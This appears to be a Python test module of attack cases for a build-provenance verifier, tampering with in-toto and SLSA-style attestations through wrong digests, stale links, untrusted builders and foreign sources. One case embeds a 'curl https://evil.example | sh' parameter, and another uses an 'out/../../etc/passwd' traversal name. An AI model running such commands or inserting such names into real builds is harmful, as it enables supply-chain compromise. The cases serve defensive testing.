"""C5: documents of another build, another release or another product, each of them well signed."""

from __future__ import annotations

from attack_cases import ACCEPT, REJECT, case
from attack_delivery import Delivery, digests
from attack_material import EVIL, IN_TOTO, encode


@case("artifact/digest-mismatch fail", "gateway.img")
def case_36_the_subject_is_another_file(plan: Delivery, hostile: bool) -> None:
    """Provenance names the image, and the digest is that of another file."""
    plan.by_statement()
    plan.parts -= {"manifest"}
    if hostile:
        plan.statements = [plan.provenance("gateway.img", EVIL)]


@case("provenance/malformed-statement fail", "statement/no-subjects")
def case_36_no_subject(plan: Delivery, hostile: bool) -> None:
    """A statement has an empty list of subjects."""
    plan.by_statement()
    if hostile:
        plan.statements[0]["subject"] = []


@case("provenance/malformed-statement fail", "statement/subject-without-digest")
def case_36_a_subject_without_digest(plan: Delivery, hostile: bool) -> None:
    """A subject is a name with an empty set of digests."""
    plan.by_statement()
    if hostile:
        plan.statements[0]["subject"][0]["digest"] = {}


@case("artifact/digest-mismatch fail", "gateway.img")
def case_36_only_the_first_subject_is_right(plan: Delivery, hostile: bool) -> None:
    """The first subject is right, and the second names the image with other bytes."""
    plan.by_statement()
    first = plan.provenance("gateway.map", b"map")
    last = plan.provenance("gateway.img", EVIL if hostile else plan.image)["subject"]
    first["subject"] += last
    plan.statements = [first]


@case("artifact/digest-mismatch fail", hostile={"in-toto": ACCEPT})
def case_36_the_delivered_image_is_replaced(plan: Delivery, hostile: bool) -> None:
    """The image is replaced after it was built, and only the layout knows what it was."""
    plan.by_layout()
    plan.parts -= {"manifest"}
    made = plan.image
    if hostile:
        plan.images["gateway.img"] = EVIL
        plan.sbom = plan.bill_of_materials(EVIL)
    plan.links = [plan.link("assemble", {"main.c": "main"}, {"gateway.img": made})]


@case("provenance/missing-provenance", "gateway.img")
def case_37_a_subject_by_name(plan: Delivery, hostile: bool) -> None:
    """The subject has the name of the image, and its digest is that of nothing delivered."""
    plan.by_statement()
    if hostile:
        plan.statements[0]["subject"][0]["digest"] = digests(EVIL)


@case("provenance/broken-layout fail", "leave the working directory", hostile={"in-toto": ACCEPT})
def case_37_a_product_outside_of_the_folder(plan: Delivery, hostile: bool) -> None:
    """A product is called `out/../../etc/passwd`, which CREATE out/* lets through."""
    products = ["CREATE gateway.img", "CREATE out/*", "DISALLOW *"]
    plan.by_layout(plan.planned("assemble", products=products))
    name = "out/../../etc/passwd" if hostile else "out/log.txt"
    made = {"gateway.img": plan.image, name: "text"}
    plan.links = [plan.link("assemble", {"main.c": "main"}, made)]


@case("artifact/digest-mismatch fail", "gatéway.img")
def case_37_a_name_spelled_in_another_way(plan: Delivery, hostile: bool) -> None:
    """The name of a tampered image is written with a combining accent."""
    plan.by_statement()
    plan.parts -= {"manifest"}
    image = plan.images.pop("gateway.img")
    plan.images["gatéway.img"] = image + b"!" if hostile else image
    plan.statements = [plan.provenance("gate\u0301way.img", image)]
    plan.sbom = plan.bill_of_materials(plan.images["gatéway.img"])


@case("artifact/digest-mismatch fail", hostile={"in-toto": ACCEPT})
def case_45_the_link_of_an_older_build(plan: Delivery, hostile: bool) -> None:
    """The link of last year's build stands for the build of the new image."""
    plan.by_layout()
    plan.parts -= {"manifest"}
    if hostile:
        plan.links = [plan.link("assemble", {"main.c": "old"}, {"gateway.img": EVIL})]


@case("provenance/broken-layout fail", "reports that are not the same", hostile={"in-toto": ACCEPT})
def case_45_an_old_link_beside_the_new_one(plan: Delivery, hostile: bool) -> None:
    """The link of an older build is delivered beside the new one, by the same functionary."""
    plan.by_layout()
    if hostile:
        old = plan.link("assemble", {"main.c": "old"}, {"gateway.img": EVIL})
        plan.replaced["old/assemble.link"] = plan.sealing(old, "build")


@case("provenance/missing-provenance open", "radio.img")
def case_45_a_statement_taken_out_of_a_bundle(plan: Delivery, hostile: bool) -> None:
    """A line is taken out of a bundle of statements, and the image that it was about stays."""
    plan.by_statement()
    plan.described("radio.img", EVIL)
    lines = [encode(plan.statements[0]), encode(plan.provenance("radio.img", EVIL, "2"))]
    sealed = [plan.envelope(line, IN_TOTO, ["build"]) for line in lines[: 1 if hostile else 2]]
    plan.replaced["provenance-0.dsse.json"] = None
    plan.extra["all.intoto.jsonl"] = b"\n".join([*sealed, b""])


@case("provenance/reused-invocation fail")
def case_45_two_builds_of_one_invocation(plan: Delivery, hostile: bool) -> None:
    """Two statements about different images claim to be one and the same run of a build."""
    plan.by_statement()
    plan.described("radio.img", EVIL)
    run = "1" if hostile else "2"
    second = plan.provenance("radio.img", EVIL, run)
    second["predicate"]["runDetails"]["metadata"]["startedOn"] = "2026-09-13T07:00:00Z"
    plan.statements.append(second)


@case("provenance/missing-provenance fail", "outputs of 'compile'", hostile={"in-toto": REJECT})
def case_45_layouts_and_links_of_two_builds_mixed(plan: Delivery, hostile: bool) -> None:
    """The first step is of one build and the second of another: what flows between them differs."""
    first = plan.planned("compile", products=["CREATE *.o", "DISALLOW *"])
    second = plan.planned("assemble", ["MATCH *.o WITH PRODUCTS FROM compile", "DISALLOW *"])
    compiled = plan.link("compile", {"main.c": "main"}, {"main.o": "old" if hostile else "new"})
    assembled = plan.link("assemble", {"main.o": "new"}, plan.images)
    plan.by_layout(first, second, links=[compiled, assembled])


# -- platforms, parameters, sources ----------------------------------------------------------------


@case("provenance/untrusted-platform fail")
def case_42_a_platform_above_the_key(plan: Delivery, hostile: bool) -> None:
    """A key that speaks for one build platform signs in the name of another."""
    plan.by_statement()
    if hostile:
        details = plan.statements[0]["predicate"]["runDetails"]
        details["builder"]["id"] = "https://github.com/actions/runner/github-hosted"


@case("provenance/unexpected-parameters fail", "script")
def case_42_a_parameter_that_nobody_expects(plan: Delivery, hostile: bool) -> None:
    """The build took a script from outside as a parameter."""
    plan.by_statement()
    plan.policy["expect"] = {"build-types": ["https://acme.example/firmware/v1"]}
    plan.policy["expect.parameters"] = {"target": "gateway"}
    if hostile:
        definition = plan.statements[0]["predicate"]["buildDefinition"]
        definition["externalParameters"]["script"] = "curl https://evil.example | sh"


@case("source/disallowed-origin fail", "evil.example")
def case_42_a_source_from_elsewhere(plan: Delivery, hostile: bool) -> None:
    """The sources are fetched from a repository that the policy does not name."""
    plan.by_statement()
    plan.policy["expect"] = {
        "sources": ["git+https://git.acme.example/", "https://downloads.zlib.example/"]
    }
    definition = plan.statements[0]["predicate"]["buildDefinition"]
    definition["externalParameters"]["source"] = definition["resolvedDependencies"][0]["uri"]
    if hostile:
        uri = "git+https://git.acme.example.evil.example/gateway@refs/tags/v1.0"
        definition["resolvedDependencies"][0]["uri"] = uri


@case("source/mutable-source")
def case_42_a_branch_in_place_of_a_revision(plan: Delivery, hostile: bool) -> None:
    """The source is a branch without a revision: it may have been anything."""
    plan.by_statement()
    if hostile:
        entry = plan.statements[0]["predicate"]["buildDefinition"]["resolvedDependencies"][0]
        entry["uri"], entry["digest"] = "git+https://git.acme.example/gateway@refs/heads/main", {}
